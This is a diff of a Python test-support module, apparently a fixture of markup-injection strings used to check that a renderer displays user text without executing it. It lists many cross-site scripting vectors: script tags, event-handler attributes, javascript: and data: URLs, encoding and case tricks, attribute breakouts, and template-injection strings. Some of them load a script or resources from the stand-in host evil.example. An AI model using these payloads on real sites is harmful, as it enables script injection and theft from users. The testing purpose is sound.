@@ -1,59 +1,87 @@
-"""Texts that would do something in a page that took them for more than text."""
+"""Texts that would run something, fetch something or change the page if they were taken for markup."""
 
 from __future__ import annotations
 
-import json
-import random
 from itertools import product
 
-from tests.support.shared import DATA
+CALL = "window.owned=1"
+HOST = "//evil.example/x"
 
-OWN_COUNT, PUBLIC_COUNT = 140, 60
-
-_SCRIPT = "document.title='owned'"
-_MARKS = (
-    f"<script>{_SCRIPT}</script>",
-    f"<img src=x onerror={_SCRIPT}>",
-    f"<svg/onload={_SCRIPT}>",
-    f"<svg><script>{_SCRIPT}</script></svg>",
-    f"<iframe srcdoc='<script>parent.{_SCRIPT}</script>'></iframe>",
-    f"<details open ontoggle={_SCRIPT}>x</details>",
-    f"<input autofocus onfocus={_SCRIPT}>",
-    f"<video><source onerror={_SCRIPT}></video>",
-    f"<math><mtext><img src=x onerror={_SCRIPT}></mtext></math>",
-    f"<a href=javascript:{_SCRIPT}>x</a>",
-    f"<form action=javascript:{_SCRIPT}><button>x</button></form>",
-    "<link rel=stylesheet href=//evil.example/a.css>",
-    "<style>body{display:none}</style>",
-    "<meta http-equiv=refresh content=0;url=//evil.example>",
-    "<base href=//evil.example/>",
-    "<object data=//evil.example/a.swf></object>",
-    "<b onmouseover=alert(1)>x</b>",
-    "[x](javascript:alert(1))",
-    "![x](http://evil.example/a.png)",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "<http://evil.example/a>",
-    ":red[x] :material/home: :violet-badge[x]",
-    "$x^2$ $$\\href{javascript:alert(1)}{x}$$",
-    "{{7+7}} ${7+7} #{7+7} <%= 7+7 %>",
-    "javascript:alert(1)",
-    "x\u202etxt.exe\u202c \u2066x\u2069",
-    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
-    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+_ELEMENTS = (
+    "<script>{call}</script>",
+    "<SCRIPT\tSRC={host}></SCRIPT>",
+    "<scr<script>ipt>{call}</scr</script>ipt>",
+    "<img src=x onerror={call}>",
+    '<img src="x" onerror="{call}" alt="a picture">',
+    "<IMG SRC={host}.png>",
+    "<svg onload={call}>",
+    "<svg><script>{call}</script></svg>",
+    "<svg><animate onbegin={call} attributeName=x dur=1s>",
+    "<body onload={call}>",
+    "<iframe src=javascript:{call}>",
+    '<iframe srcdoc="<script>parent.{call}</script>">',
+    "<object data={host}></object>",
+    "<embed src={host}>",
+    "<video><source onerror={call}></video>",
+    "<audio src=x onerror={call}>",
+    "<details open ontoggle={call}>",
+    "<input autofocus onfocus={call}>",
+    "<form action={host}><button>Send</button></form>",
+    "<a href=javascript:{call}>a link</a>",
+    "<a id=graphloopPage href={host}>x</a>",
+    "<base href={host}>",
+    "<meta http-equiv=refresh content=0;url={host}>",
+    "<link rel=stylesheet href={host}>",
+    "<style>@import '{host}';</style>",
+    "<div style=background:url({host})>x</div>",
+    "<math><mtext><img src=x onerror={call}></mtext></math>",
+    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
+    "<template><script>{call}</script></template>",
+    "<marquee onstart={call}>x</marquee>",
+    "<table background={host}><tr><td>x</td></tr></table>",
+    "<textarea autofocus onfocus={call}></textarea>",
+    "<!--><script>{call}</script-->",
+    "<![CDATA[<script>{call}</script>]]>",
+    "<?xml version='1.0'?><script>{call}</script>",
 )
-_SETTINGS = ("{}", '"{}', "'>{}", "</span></p>{}", "--> {} <!--")
+_WRAPPERS = ("{}", "words {} words", '">{}', "'>{}", "</div></p>{}")
+_ADDRESSES = (
+    "javascript:{call}",
+    "JaVaScRiPt:{call}",
+    "java&#115;cript:{call}",
+    "data:text/html,<script>{call}</script>",
+    "vbscript:msgbox(1)",
+    "https:{host}",
+)
+_LINKS = ("[a link]({})", "![a picture]({})", "<{}>", "[a][b] [b]: {}", "{}")
+_OTHERS = (
+    ":red[red] :material/home: :shimmer[x] :small[x]",
+    "$\\href{javascript:window.owned=1}{x}$",
+    "$$\\unicode{x}$$ \\(x\\) {{constructor.constructor('window.owned=1')()}}",
+    "${window.owned=1} #{window.owned=1} <%= window.owned=1 %>",
+    "&lt;script&gt;window.owned=1&lt;/script&gt;",
+    "&#60;script&#62;window.owned=1&#60;/script&#62;",
+    "\u202e<script>window.owned=1</script>\u202c",
+    "＜script＞window.owned=1＜/script＞",
+    "a\x00<img\x00 src=x onerror=window.owned=1>",
+    "\x1b]8;;https://evil.example\x07a link\x1b]8;;\x07",
+    "+ADw-script+AD4-window.owned=1+ADw-/script+AD4-",
+    "';window.owned=1;//",
+    '";window.owned=1;//',
+    "</script><script>window.owned=1</script>",
+    "</style><script>window.owned=1</script>",
+    "' onmouseover='window.owned=1' x='",
+    '" onmouseover="window.owned=1" x="',
+    "` onmouseover=`window.owned=1",
+)
 
-
-def payloads() -> list[str]:
-    """Return own texts of each kind in each setting, and a seeded choice of public ones where the data sets are."""
-    own = [setting.format(mark) for setting, mark in product(_SETTINGS, _MARKS)]
-    assert len(own) == OWN_COUNT
-    file = DATA / "safety" / "blns" / "blns.json"
-    known = json.loads(file.read_text(encoding="utf-8")) if file.is_file() else []
-    public = sorted({text for text in known if "<" in text or "javascript:" in text if text.isprintable()})
-    return [*own, *random.Random(0).sample(public, min(PUBLIC_COUNT, len(public)))]
-
-
-def plain(payload: str) -> str:
-    """Return a text of the same length and the same words that means nothing to any reader of markup."""
-    return "".join(letter if letter.isalnum() or letter == " " else "x" for letter in payload)
+PAYLOADS: tuple[str, ...] = tuple(
+    dict.fromkeys(
+        (
+            *(wrapper.format(one.format(call=CALL, host=HOST)) for one, wrapper in product(_ELEMENTS, _WRAPPERS)),
+            *(link.format(one.format(call=CALL, host=HOST)) for one, link in product(_ADDRESSES, _LINKS)),
+            *_OTHERS,
+        )
+    )
+)
+"""Each in one line."""
